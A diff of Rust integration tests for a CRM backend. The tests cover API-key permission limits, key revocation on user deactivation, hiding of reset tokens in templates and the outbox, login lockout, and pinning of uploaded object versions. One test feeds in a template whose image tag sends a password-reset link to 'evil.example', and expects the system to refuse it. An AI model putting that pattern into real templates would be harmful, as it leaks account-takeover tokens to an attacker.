@@ -265,10 +265,38 @@ async fn a_key_dies_with_its_creator_holds_no_more_than_they_do_and_never_breeds
     let owner = TestApp::with_roles(&["super_admin"]).await;
     let admin = owner.colleague(&["admin"]).await;
     // A key can never hold identity administration: no keys minting keys or users.
-    for forbidden in ["apikey.manage", "user.manage", "role.assign", "groups.members.manage"] {
+    for forbidden in
+        ["apikey.manage", "user.manage", "role.assign", "groups.members.manage", "approvals.policies.manage", "notify.templates.manage"]
+    {
         let (status, body) = api_key(&admin, &["note.read", forbidden]).await;
-        assert_eq!((status, code(&body)), (400, Some("VALIDATION_ERROR")), "{forbidden}: {body}");
+        assert_eq!((status, code(&body)), (403, Some("FORBIDDEN")), "{forbidden}: {body}");
     }
+    assert_eq!(audited_refusals(&owner, "POST /v1/admin/api-keys").await.len(), 6, "each refusal audited");
+    // A key stored before the rule, holding apikey.manage: the authorizer drops the code.
+    let id = crm_kernel::EntityId::new();
+    let legacy = crm_auth::opaque::OpaqueToken::generate(Some(identity::model::API_KEY_PREFIX), owner.tenant, id);
+    let item = identity::model::ApiKey {
+        id,
+        tenant_id: owner.tenant,
+        name: "legacy".into(),
+        hash: legacy.hash(),
+        hint: legacy.hint(),
+        permissions: vec!["apikey.manage".into(), "note.read".into()],
+        created_by: owner.user,
+        created_at: crm_kernel::Timestamp::now(),
+        expires_at: None,
+        last_used_at: None,
+        revoked_at: None,
+        version: 1,
+    };
+    fixture_store().await.put(item.to_item().unwrap()).await.unwrap();
+    let wire = legacy.to_wire();
+    assert_eq!(with_key(&wire, Method::GET, "/v1/notes", json!({})).await.0, 200);
+    assert_eq!(
+        with_key(&wire, Method::POST, "/v1/admin/api-keys", json!({"name": "child", "permissions": ["note.read"]})).await.0,
+        403,
+        "keys never breed"
+    );
     let (status, made) = api_key(&admin, &["note.read", "note.create", "contact.create"]).await;
     assert_eq!(status, 201, "{made}");
     let key = made["data"]["secret"].as_str().unwrap().to_string();
@@ -284,11 +312,19 @@ async fn a_key_dies_with_its_creator_holds_no_more_than_they_do_and_never_breeds
     assert_eq!(with_key(&key, Method::GET, "/v1/notes", json!({})).await.0, 401);
     assert_eq!(send(owner.post(&format!("/v1/admin/users/{}/reactivate", admin.user))).await.0, 200);
     assert_eq!(with_key(&key, Method::GET, "/v1/notes", json!({})).await.0, 200);
-    // Deactivated: every key of theirs is revoked, and audited.
-    assert_eq!(send(owner.post(&format!("/v1/admin/users/{}/deactivate", admin.user))).await.0, 200);
+    // Deactivated: every key of theirs is revoked, and audited — however many (not one transaction too big).
+    assert_eq!(send(owner.post(&format!("/v1/admin/users/{}/roles", admin.user)).json(&json!({"roles": ["admin"]}))).await.0, 200);
+    let admin = admin.relogin().await; // the suspension ended every session of theirs
+    for _ in 0..35 {
+        assert_eq!(api_key(&admin, &["note.read"]).await.0, 201);
+    }
+    let (status, body) = send(owner.post(&format!("/v1/admin/users/{}/deactivate", admin.user))).await;
+    assert_eq!(status, 200, "{body}");
     assert_eq!(with_key(&key, Method::GET, "/v1/notes", json!({})).await.0, 401);
-    let keys = owner.get_json("/v1/admin/api-keys").await;
-    assert_eq!(keys["data"][0]["status"], "revoked", "{keys}");
+    let keys = owner.get_json("/v1/admin/api-keys?limit=100").await;
+    let mine: Vec<&Value> = keys["data"].as_array().unwrap().iter().filter(|k| k["created_by"] == admin.user.to_string()).collect();
+    assert_eq!(mine.len(), 36);
+    assert!(mine.iter().filter(|k| k["status"] == "revoked").count() >= 10, "{keys}");
     let log = owner.get_json("/v1/admin/audit-logs?action=apikey.revoked").await;
     assert_eq!(log["data"][0]["details"]["reason"], "user.deactivated", "{log}");
     assert_eq!(send(owner.post(&format!("/v1/admin/users/{}/reactivate", admin.user))).await.0, 200);
@@ -327,11 +363,27 @@ async fn secrets_never_reach_a_template_subject_the_outbox_or_an_admins_view() {
     let (status, body) = send(tpl("email", "auth.reset_password", "Your link: {{link}}", "Hello {{full_name}}: {{link}}")).await;
     assert_eq!((status, code(&body)), (422, Some("TEMPLATE_SECRET_EXPOSED")), "{body}");
     assert_eq!(send(tpl("inbox", "otp.login", "Sign-in", "Your code is {{code}}")).await.0, 422, "an inbox an admin can read");
-    assert_eq!(
-        send(tpl("email", "auth.reset_password", "Reset your password", "Choose a new one: {{link}}")).await.0,
-        201,
-        "the body is fine"
-    );
+    let (status, body) = send(tpl("email", "auth.reset_password", "Reset", "<img src=\"https://evil.example/p?l={{link}}\">")).await;
+    assert_eq!((status, code(&body)), (422, Some("TEMPLATE_SECRET_EXPOSED")), "a body could carry the link to its author: {body}");
+    assert_eq!(send(tpl("email", "auth.reset_password", "Reset your password", "Choose a new password, {{full_name}}.")).await.0, 201);
+    // The tenant's wording, and the link the system adds below it; the outbox shows neither.
+    let me = format!("{}@fixture.example.com", admin.user.to_string().to_lowercase());
+    // The fixture user's login email, as a sign-up would have claimed it.
+    let marker = identity::model::email_marker_key(&identity::email::Email::parse(&me).unwrap());
+    let owner = identity::model::EmailOwner { tenant_id: admin.tenant, user_id: admin.user };
+    fixture_store().await.put(crm_store::item::to_item(&marker, &owner).unwrap()).await.unwrap();
+    let forgot = reqwest::Client::new().post(format!("{}/v1/auth/forgot-password", stack().url)).json(&json!({"email": me}));
+    assert_eq!(send(forgot).await.0, 202);
+    let mail = eventually("the reset mail", Duration::from_secs(30), || async {
+        mailbox(&me).await.into_iter().find(|m| m["template_code"] == "auth.reset_password")
+    })
+    .await;
+    let text = mail["body"].as_str().unwrap();
+    assert!(text.starts_with("Choose a new password, Fixture User.") && text.contains("/reset-password?token=rst."), "{text}");
+    let outbox = admin.get_json("/v1/notify/messages?limit=100").await;
+    let reset = outbox["data"].as_array().unwrap().iter().find(|m| m["template_code"] == "auth.reset_password").cloned().unwrap();
+    assert_eq!((reset["subject"].clone(), reset["body"].clone()), (Value::Null, Value::Null), "{reset}");
+    assert!(!outbox.to_string().contains("rst."), "no reset token anywhere in the outbox");
 
     // A contact channel's verification code: sent, never shown in the outbox.
     let address = format!("lina-{}@secret.example.com", ulid::Ulid::new().to_string().to_lowercase());
@@ -368,8 +420,10 @@ async fn fifteen_parallel_wrong_passwords_count_fifteen() {
     let checked = statuses.iter().filter(|s| **s == 401).count();
     assert!(checked <= 5, "at most five guesses are checked: {statuses:?}");
     assert_eq!(statuses.iter().filter(|s| **s == 429).count(), 15 - checked, "{statuses:?}");
-    let (status, body) = send(login("s3cret-pass")).await;
-    assert_eq!((status, code(&body)), (429, Some("RATE_LIMIT_EXCEEDED")), "locked even with the right password");
+    let right = login("s3cret-pass").send().await.unwrap();
+    let retry: u64 = right.headers()["retry-after"].to_str().unwrap().parse().unwrap();
+    assert_eq!(right.status(), 429, "locked even with the right password");
+    assert!(retry > 500, "the lockout's ten minutes, not a per-IP window: {retry}");
 }
 
 #[tokio::test]
@@ -502,7 +556,8 @@ async fn the_storage_refuses_an_upload_outside_its_policy_and_a_job_reads_the_ve
 
     let tag = ulid::Ulid::new().to_string().to_lowercase();
     let first = format!("first_name,email\nPinned,pinned-{tag}@import.example.com\n");
-    assert_eq!(crate::helpers::upload(&form, first.into_bytes(), "text/csv").await.0, 204);
+    let (status, answer) = crate::helpers::upload(&form, first.into_bytes(), "text/csv").await;
+    assert_eq!(status, 204, "{answer}");
     assert_eq!(send(app.post(&format!("/v1/jobs/{id}/start"))).await.0, 202);
     // Right after the start, another file lands on the same key.
     let second = format!("first_name,email\nSwapped,swapped-{tag}@import.example.com\nSwapped2,swapped2-{tag}@import.example.com\n");
@@ -520,6 +575,20 @@ async fn the_storage_refuses_an_upload_outside_its_policy_and_a_job_reads_the_ve
         .map(|c| c["first_name"].as_str().unwrap().to_string())
         .collect();
     assert_eq!(names, vec!["Pinned".to_string()], "the version the job started with, not the one uploaded over it");
+    let job: records::job::Job = fixture_store()
+        .await
+        .get_as(&records::job::Job::key(app.tenant, crm_kernel::EntityId::parse(&id).unwrap()))
+        .await
+        .unwrap()
+        .unwrap();
+    let s3 = aws_sdk_s3::Client::from_conf(aws_sdk_s3::config::Builder::from(&crate::helpers::sdk().await).force_path_style(true).build());
+    let bucket = form["url"].as_str().unwrap().rsplit('/').next().unwrap().to_string();
+    let latest = s3.head_object().bucket(bucket).key(&job.object_key).send().await.unwrap().version_id;
+    assert!(
+        job.object_version.is_some() && latest != job.object_version,
+        "pinned to the first upload: {:?} vs {latest:?}",
+        job.object_version
+    );
 }
 
 #[tokio::test]
